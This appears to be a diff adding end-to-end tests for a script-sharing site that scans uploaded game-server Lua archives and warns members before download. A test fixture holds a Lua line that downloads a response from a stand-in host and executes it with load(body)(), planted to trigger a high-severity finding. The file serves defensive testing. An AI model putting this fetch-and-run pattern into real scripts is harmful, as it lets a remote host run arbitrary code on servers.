@@ -1,0 +1,149 @@
+import { randomBytes } from 'node:crypto'
+
+import { expect, type APIRequestContext, type Page } from '@playwright/test'
+
+import { zipOf } from '#test-support/archives/zip.ts'
+
+import { expectNoViolations } from './axe.ts'
+import { test } from './fixtures.ts'
+import {
+  registerModerator,
+  registerUploader,
+  registerUser,
+  signInPage,
+  submitScript,
+  type RegisteredUser,
+} from './users.ts'
+
+const title = 'Runs code that it downloads'
+
+/** An archive with a finding of severity high; no other test has its files. */
+function suspectArchive(): Buffer {
+  const manifest = "fx_version 'cerulean'\ngame 'gta5'\nserver_script 'server.lua'\n"
+  const code = `-- ${randomBytes(8).toString('hex')}\nPerformHttpRequest('https://api.example.com/rates', function(_, body) load(body)() end)\n`
+  return zipOf([
+    { name: 'fines/fxmanifest.lua', content: manifest, deflate: true },
+    { name: 'fines/server.lua', content: code, deflate: true },
+  ])
+}
+
+async function newReport(author: RegisteredUser, request: APIRequestContext) {
+  const script = await submitScript(author, { archive: suspectArchive() })
+  const readState = async () => {
+    const answer = await request.get(`/api/scripts/${script.id}`)
+    return (await answer.json()).analysis?.state
+  }
+  await expect.poll(readState, { timeout: 30_000 }).toBe('done')
+  return script
+}
+
+const main = (page: Page) => page.getByRole('main')
+const downloadButton = (page: Page) => main(page).getByRole('button', { name: /^Download/ })
+
+test('a member reads what is in an archive, and a download with something to check asks once', async ({
+  page,
+  request,
+}) => {
+  const script = await newReport(await registerUploader(), request)
+  await signInPage(page, await registerUser('member'))
+  await page.goto(`/scripts/${script.id}`)
+  await expect(main(page).getByText('1 thing to check first')).toBeVisible()
+
+  await downloadButton(page).click()
+  const dialog = page.getByRole('dialog', { name: '1 thing to check first' })
+  await expect(dialog.getByRole('listitem')).toHaveText([title])
+  await expectNoViolations(page, [1440, 390])
+  await dialog.getByRole('link', { name: 'Read the report' }).click()
+
+  await expect(page).toHaveURL(`/scripts/${script.id}/report`)
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText(script.name)
+  await expect(page).toHaveTitle(`Report: ${script.name} · Scripthaven`)
+  await expect(main(page).getByRole('heading', { name: title })).toBeVisible()
+  await expect(main(page).getByText(/It does not show that the archive does no harm/)).toBeVisible()
+  await expectNoViolations(page)
+  await main(page).getByRole('link', { name: 'Overview' }).click()
+  for (const isAsked of [true, false]) {
+    const saving = page.waitForEvent('download')
+    await downloadButton(page).click()
+    if (isAsked) await page.getByRole('button', { name: 'Download anyway' }).click()
+    expect((await saving).suggestedFilename()).toBe(`${script.name}.zip`)
+    await expect(dialog).toHaveCount(0)
+  }
+})
+
+test('who decides against the download gets none', async ({ page, request }) => {
+  const script = await newReport(await registerUploader(), request)
+  await signInPage(page, await registerUser('member'))
+  await page.goto(`/scripts/${script.id}`)
+  const calls: string[] = []
+  page.on('request', (made) => {
+    if (made.url().endsWith('/download')) calls.push(made.url())
+  })
+
+  await downloadButton(page).click()
+  await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click()
+
+  await expect(downloadButton(page)).toHaveText(/^Download/)
+  await expect(main(page).getByText('Your download has started.')).toHaveCount(0)
+  expect(calls).toEqual([])
+})
+
+test('the author comments on a finding, and a moderator accepts it and undoes that', async ({
+  browser,
+  page,
+  request,
+}) => {
+  const [author, moderator] = [await registerUploader(), await registerModerator()]
+  const script = await newReport(author, request)
+  await signInPage(page, author)
+  await page.goto(`/scripts/${script.id}/report`)
+
+  await main(page).getByRole('button', { name: 'Comment on the findings in fines/server.lua' }).click()
+  const comment = main(page).getByRole('textbox', { name: 'Your comment' })
+  await expect(comment).toBeFocused()
+  await comment.fill('The rates of the tax office.')
+  await main(page).getByRole('button', { name: 'Save comment' }).click()
+  await expect(main(page).getByRole('figure')).toContainText('The rates of the tax office.')
+  await expect(main(page).getByRole('button', { name: /^Accept/ })).toHaveCount(0)
+
+  const other = await browser.newContext()
+  const review = await other.newPage()
+  await signInPage(review, moderator)
+  await review.goto(`/scripts/${script.id}/report`)
+  await expect(main(review).getByRole('button', { name: /^Comment/ })).toHaveCount(0)
+  await main(review)
+    .getByRole('button', { name: /^Accept/ })
+    .click()
+  await main(review).getByRole('button', { name: 'Accept', exact: true }).click()
+  await expect(main(review).getByText('Please write at least 3 characters')).toBeVisible()
+  await main(review).getByRole('textbox', { name: 'Why is it accepted?' }).fill('Read it: a list of rates.')
+  await expectNoViolations(review, [1440, 390])
+  await main(review).getByRole('button', { name: 'Accept', exact: true }).click()
+  await main(review).getByText('1 finding accepted by a moderator').click()
+  await expect(main(review).getByText('Read it: a list of rates.')).toBeVisible()
+  await expect(main(review).getByText('1 thing to check first')).toHaveCount(0)
+  await main(review)
+    .getByRole('button', { name: /^Undo the decision/ })
+    .click()
+  await expect(main(review).getByText('1 thing to check first')).toBeVisible()
+  await other.close()
+})
+
+test('the rules', async ({ page }) => {
+  await page.goto('/rules#runs-downloaded-code')
+  await expect(main(page).getByRole('heading', { name: title })).toBeInViewport()
+  await expectNoViolations(page)
+})
+
+test('a report that cannot be loaded shows an error, and Try Again loads it', async ({ page, request }) => {
+  const script = await newReport(await registerUploader(), request)
+  await page.goto(`/scripts/${script.id}`)
+  await page.route('**/report', (route) => route.abort())
+  await main(page).getByRole('link', { name: 'Read the report' }).click()
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Failed to load report')
+
+  await page.unroute('**/report')
+  await page.getByRole('button', { name: 'Try Again' }).click()
+
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText(script.name)
+})
